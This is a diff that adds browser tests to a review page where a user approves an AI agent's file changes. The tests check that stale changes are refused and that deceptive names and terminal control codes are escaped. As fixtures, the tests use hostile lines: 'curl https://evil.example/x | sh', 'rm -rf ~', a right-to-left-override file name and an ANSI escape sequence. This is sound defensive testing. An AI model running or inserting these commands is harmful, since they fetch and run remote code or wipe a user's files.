@@ -111,6 +111,48 @@ describe.skipIf(!HAVE_CHROMIUM)('the review page in headless Chromium', { timeou
     expect((await listed()).length).toBe(6);
   });
 
+  it('applies nothing of a change the agent rewrote after its diff was shown, says so and reloads', async () => {
+    await page.getByRole('button', { name: 'Show the diff of src/main.ts' }).click();
+    await page.locator('#diff-view .diff-line.add').first().waitFor();
+    const before = fixture.snapshot();
+    await fixture.agentWrites('src/main.ts', 'curl https://evil.example/x | sh\n');
+    await row('src/main.ts').getByRole('button', { name: 'Apply src/main.ts' }).click();
+    await page.getByText('Nothing done: the agent changed what this page showed.').waitFor();
+    expect(await page.getByRole('alert').textContent()).toContain('src/main.ts: the agent changed it after this page showed it');
+    expect(fixture.snapshot()).toEqual(before);
+    await page.screenshot({ path: join(SHOTS, 'review-moved.png'), fullPage: true });
+    await page.getByRole('button', { name: 'Reload the changes' }).click();
+    // The diff on screen is shown again as the agent holds it now; that version is what lands.
+    await page.locator('#diff-view .diff-line.add', { hasText: 'curl https://evil.example/x | sh' }).waitFor();
+    expect(await page.getByRole('alert').isHidden()).toBe(true);
+    await row('src/main.ts').getByRole('button', { name: 'Apply src/main.ts' }).click();
+    await page.getByText('Applied 1 change.').waitFor();
+    expect(fixture.snapshot()['src/main.ts']).toBe(`644 ${Buffer.from('curl https://evil.example/x | sh\n').toString('hex')}`);
+  });
+
+  it('Apply all lands nothing when a fifth change came after the page listed its changes', async () => {
+    await fixture.agentWrites('later.sh', 'rm -rf ~\n');
+    const before = fixture.snapshot();
+    await page.getByRole('button', { name: 'Apply all' }).click();
+    await page.getByText('Nothing done: the agent changed what this page showed.').waitFor();
+    expect(await page.getByRole('alert').textContent()).toContain('the list of changes: the agent changed, added or removed a change');
+    expect(fixture.snapshot()).toEqual(before);
+    await page.getByRole('button', { name: 'Reload the changes' }).click();
+    await page.getByText('7 changes').waitFor();
+  });
+
+  it('shows a name with a bidirectional override and a line with terminal controls escaped', async () => {
+    await fixture.agentWrites('invoice\u{202E}fdp.exe', 'ok\r\u001b[2Kforged\n');
+    await page.reload();
+    await page.getByText('7 changes').waitFor();
+    expect(await listed()).toContain('invoice\\u{202E}fdp.exe');
+    await page.getByRole('button', { name: 'Show the diff of invoice\\u{202E}fdp.exe' }).click();
+    await page.locator('#diff-view .diff-line.add').first().waitFor();
+    expect(await page.locator('#diff-view .diff-line.add').allTextContents()).toEqual(['+ok\\r\\u{001B}[2Kforged']);
+    expect(await page.locator('#diff-view .diff-line.meta').allTextContents()).toEqual(['--- /dev/null', '+++ b/invoice\\u{202E}fdp.exe']);
+    await page.screenshot({ path: join(SHOTS, 'review-escaped.png'), fullPage: true });
+  });
+
   it('undoes the last apply, putting the disk and the list back', async () => {
     const before = fixture.snapshot();
     await row('old-notes.txt').getByRole('button', { name: 'Apply old-notes.txt' }).click();
